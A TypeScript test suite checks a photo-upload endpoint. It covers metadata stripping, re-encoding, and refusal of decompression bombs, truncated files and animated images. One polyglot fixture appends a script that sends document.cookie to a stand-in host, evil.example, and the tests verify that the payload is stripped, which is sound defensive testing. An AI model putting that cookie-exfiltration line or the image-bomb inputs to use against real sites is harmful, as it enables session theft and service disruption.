/**
 * Uploaded photos are decoded and re-encoded (photos.ts): what is served is fresh pixels only. The
 * fixtures are made here with sharp itself, so every one is a real image of a known size.
 */
import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from '../../testing/harness.ts';
import { PHOTO_MAX_SIDE } from './photos.ts';
import { multipart, PNG, pngBomb } from './test-helpers.ts';

async function upload(t: TestApp, key: string, content: Buffer, filename = 'me.png', contentType = 'image/png') {
  const body = multipart({}, { filename, contentType, content });
  return t.request('POST', '/v0/assistant/photo/upload', { key, headers: body.headers, payload: body.payload });
}

/** The served file of an upload answer, with what sharp reads from it. */
async function served(t: TestApp, info: { url: string }) {
  const res = await t.request('GET', new URL(info.url).pathname);
  expect(res.statusCode).toBe(200);
  return { res, bytes: res.rawPayload, meta: await sharp(res.rawPayload).metadata() };
}

function nothingKept(t: TestApp) {
  const dir = (name: string) => (fs.existsSync(path.join(t.dataDir, 'files', name)) ? fs.readdirSync(path.join(t.dataDir, 'files', name)) : []);
  expect(dir('photos')).toEqual([]);
  expect(dir('.tmp')).toEqual([]);
}

const solid = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: { r: 200, g: 60, b: 20 } } });

describe('photo upload: re-encoding', () => {
  it('a JPEG loses its EXIF (camera, GPS, copyright) and ICC profile and is turned upright by its orientation tag', async () => {
    const t = await makeTestApp();
    const u = await t.user();
    // Stored sideways (64×48) with Orientation 6: upright it is 48×64.
    const jpeg = await solid(64, 48)
      .jpeg()
      .withExif({ IFD0: { Artist: 'Secret Photographer', Copyright: 'secret-owner-2026' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .withIccProfile('p3')
      .toBuffer();
    const before = await sharp(jpeg).metadata();
    expect(before).toMatchObject({ orientation: 6, width: 64, height: 48 });
    expect(before.exif).toBeDefined();
    expect(before.icc).toBeDefined();
    expect(jpeg.includes('Secret Photographer')).toBe(true);
    expect(jpeg.includes('secret-owner-2026')).toBe(true);

    const res = await upload(t, u.apiKey, jpeg, 'me.jpg', 'image/jpeg');
    expect(res.statusCode, res.body).toBe(201);
    const info = res.json().info;
    expect(info.url).toMatch(/\/v0\/files\/photos\/[\w-]+\.jpg$/);
    expect(info.content_type).toBe('image/jpeg');
    const file = await served(t, info);
    expect(file.res.headers['content-type']).toBe('image/jpeg');
    expect(file.bytes.length).toBe(info.size);
    expect(file.meta).toMatchObject({ format: 'jpeg', width: 48, height: 64 });
    expect(file.meta.exif).toBeUndefined();
    expect(file.meta.orientation).toBeUndefined();
    expect(file.meta.xmp).toBeUndefined();
    expect(file.meta.icc).toBeUndefined(); // converted to sRGB, profile dropped
    for (const secret of ['Secret Photographer', 'secret-owner-2026', 'Exif']) expect(file.bytes.includes(secret), secret).toBe(false);
    const row = await t.db.selectFrom('stored_files').select(['content_type', 'size']).executeTakeFirstOrThrow();
    expect(row).toEqual({ content_type: 'image/jpeg', size: info.size });
  });

  it.each([
    ['PNG', 'image/png', 'png', () => solid(40, 30).png().toBuffer()],
    ['JPEG', 'image/jpeg', 'jpg', () => solid(40, 30).jpeg().toBuffer()],
    ['WebP', 'image/webp', 'webp', () => solid(40, 30).webp().toBuffer()],
  ] as const)('a %s polyglot (image + appended HTML script and ZIP) is stored without its tail, in the same format', async (_name, type, ext, make) => {
    const t = await makeTestApp();
    const u = await t.user();
    const image = await make();
    const tail = Buffer.concat([
      Buffer.from('<html><script>alert(document.cookie)</script></html>'),
      Buffer.from([0x50, 0x4b, 0x03, 0x04]),
      Buffer.from('payload.js\0fetch("https://evil.example/"+document.cookie)'),
    ]);
    const res = await upload(t, u.apiKey, Buffer.concat([image, tail]), `poly.${ext}`, 'text/html');
    expect(res.statusCode, res.body).toBe(201);
    const info = res.json().info;
    expect(info.content_type).toBe(type);
    expect(info.url.endsWith(`.${ext}`)).toBe(true);
    const file = await served(t, info);
    expect(file.res.headers['content-type']).toBe(type);
    expect(file.meta).toMatchObject({ width: 40, height: 30 });
    for (const needle of ['<script', 'evil.example', 'payload.js', Buffer.from([0x50, 0x4b, 0x03, 0x04])]) {
      expect(file.bytes.includes(needle), String(needle)).toBe(false);
    }
    expect(info.size).toBeLessThan(image.length + tail.length);
  });

  it('a still GIF is stored as PNG; a large picture is scaled to fit the largest side allowed', async () => {
    const t = await makeTestApp();
    const u = await t.user();
    const gif = await sharp({ create: { width: 20, height: 10, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
      .gif()
      .toBuffer();
    const fromGif = (await upload(t, u.apiKey, gif, 'me.gif', 'image/gif')).json().info;
    expect(fromGif).toMatchObject({ content_type: 'image/png', url: expect.stringMatching(/\.png$/) });
    expect((await served(t, fromGif)).meta).toMatchObject({ format: 'png', width: 20, height: 10, hasAlpha: true });

    const wide = await solid(3000, 1000).jpeg().toBuffer();
    const scaled = (await upload(t, u.apiKey, wide, 'wide.jpg', 'image/jpeg')).json().info;
    expect((await served(t, scaled)).meta).toMatchObject({ format: 'jpeg', width: PHOTO_MAX_SIDE, height: 683 });
    const small = (await upload(t, u.apiKey, PNG)).json().info;
    expect((await served(t, small)).meta).toMatchObject({ width: 16, height: 12 }); // never enlarged
  });
});

describe('photo upload: refused images → 422 on file, nothing stored', () => {
  const frames = () =>
    Promise.all(
      ['red', 'green', 'blue'].map((c) =>
        sharp({ create: { width: 8, height: 8, channels: 4, background: c } })
          .png()
          .toBuffer(),
      ),
    );

  it.each([
    ['a decompression bomb (1 KB PNG declaring 100000×100000)', async () => pngBomb(100_000, 100_000), /100000×100000 pixels; at most 40 megapixels/],
    ['a pixel flood just over the limit (7000×6000)', async () => pngBomb(7000, 6000), /7000×6000 pixels; at most 40 megapixels/],
    ['a PNG cut off before its end', async () => (await solid(300, 200).png().toBuffer()).subarray(0, 400), /could not be decoded; it may be truncated or damaged/],
    [
      'a JPEG cut off mid-scan',
      async () => {
        const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: 'white', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
          .jpeg()
          .toBuffer();
        return jpeg.subarray(0, Math.floor(jpeg.length / 2));
      },
      /could not be decoded; it may be truncated or damaged/,
    ],
    ['a PNG that is only a signature and a header', async () => PNG.subarray(0, 33), /could not be (read|decoded)/],
    [
      'an animated GIF',
      async () =>
        sharp(await frames(), { join: { animated: true } })
          .gif()
          .toBuffer(),
      /Animated or multi-page images are not accepted/,
    ],
    [
      'an animated WebP',
      async () =>
        sharp(await frames(), { join: { animated: true } })
          .webp()
          .toBuffer(),
      /Animated or multi-page images are not accepted/,
    ],
  ])('%s', async (_name, make, detail) => {
    const t = await makeTestApp();
    const u = await t.user();
    const a = (await t.request('POST', '/v0/assistant', { key: u.apiKey, json: {} })).json().info;
    const body = multipart({ assistant_id: a.agent_id }, { filename: 'me.png', contentType: 'image/png', content: await make() });
    const res = await t.request('POST', '/v0/assistant/photo/upload', { key: u.apiKey, headers: body.headers, payload: body.payload });
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json().detail).toEqual([{ type: 'value_error', loc: ['form', 'file'], msg: expect.stringMatching(detail) }]);
    expect(res.json().detail[0].msg).not.toContain(t.dataDir);
    nothingKept(t);
    expect(await t.db.selectFrom('stored_files').selectAll().execute()).toEqual([]);
    expect((await t.request('GET', `/v0/assistant/${a.agent_id}`, { key: u.apiKey })).json().info.profile_photo).toBeNull();
  });
});

describe('photos no assistant shows any more are removed', () => {
  async function setup() {
    const t = await makeTestApp();
    const u = await t.user({ credits: 100 });
    const call = (method: 'GET' | 'POST' | 'DELETE', url: string, json?: unknown) => t.request(method, url, { key: u.apiKey, json });
    const photo = async (assistantId?: number) => {
      const body = multipart(assistantId === undefined ? {} : { assistant_id: String(assistantId) }, { filename: 'me.png', contentType: 'image/png', content: PNG });
      const res = await t.request('POST', '/v0/assistant/photo/upload', { key: u.apiKey, headers: body.headers, payload: body.payload });
      expect(res.statusCode, res.body).toBe(201);
      return res.json().info.url as string;
    };
    const hire = async (profile_photo?: string) => {
      const res = await call('POST', '/v0/assistant', { first_name: 'Ada', surname: 'Lovelace', profile_photo });
      expect(res.statusCode, res.body).toBe(200);
      return Number(res.json().info.agent_id);
    };
    const status = async (url: string) => (await t.request('GET', new URL(url).pathname)).statusCode;
    const records = async () => (await t.db.selectFrom('stored_files').select('key').where('kind', '=', 'photo').execute()).map((r) => r.key).sort();
    const keyOf = (url: string) => url.split('/v0/files/')[1];
    return { t, u, call, photo, hire, status, records, keyOf };
  }

  it('a replaced photo is deleted with its record; the new one stays', async () => {
    const { photo, hire, status, records, keyOf } = await setup();
    const first = await photo();
    const id = await hire(first);
    const second = await photo(id);
    expect(await status(first)).toBe(404);
    expect(await status(second)).toBe(200);
    expect(await records()).toEqual([keyOf(second)]);
  });

  it('deleting an assistant deletes its photo, unless another assistant still shows it', async () => {
    const { call, photo, hire, status, records, keyOf } = await setup();
    const shared = await photo();
    const a = await hire(shared);
    const b = await hire(shared);
    expect((await call('DELETE', `/v0/assistant/${a}`)).statusCode).toBe(200);
    expect(await status(shared)).toBe(200);
    expect(await records()).toEqual([keyOf(shared)]);
    expect((await call('DELETE', `/v0/assistant/${b}`)).statusCode).toBe(200);
    expect(await status(shared)).toBe(404);
    expect(await records()).toEqual([]);
  });

  it('a photo uploaded for a hire that never happened is deleted a day later; photos in use and recent ones stay', async () => {
    const { t, photo, hire, status, records, keyOf } = await setup();
    const abandoned = await photo();
    const used = await photo();
    await hire(used);
    t.clock.advance(23 * 60 * 60 * 1000);
    const recent = await photo(); // a sweep runs, but nothing is a day old yet
    expect(await status(abandoned)).toBe(200);
    t.clock.advance(2 * 60 * 60 * 1000);
    const latest = await photo(); // this upload sweeps
    expect(await status(abandoned)).toBe(404);
    for (const url of [used, recent, latest]) expect(await status(url)).toBe(200);
    expect(await records()).toEqual([keyOf(used), keyOf(recent), keyOf(latest)].sort());
  });

  it('another tenant’s photo is never removed, even when shown by an assistant being deleted', async () => {
    const { t, photo, status } = await setup();
    const owned = await photo();
    const other = await t.user({ credits: 100 });
    const hired = await t.request('POST', '/v0/assistant', { key: other.apiKey, json: { first_name: 'Eve', surname: 'Else', profile_photo: owned } });
    expect(hired.statusCode, hired.body).toBe(200);
    const deleted = await t.request('DELETE', `/v0/assistant/${hired.json().info.agent_id}`, { key: other.apiKey });
    expect(deleted.statusCode).toBe(200);
    expect(await status(owned)).toBe(200);
  });
});
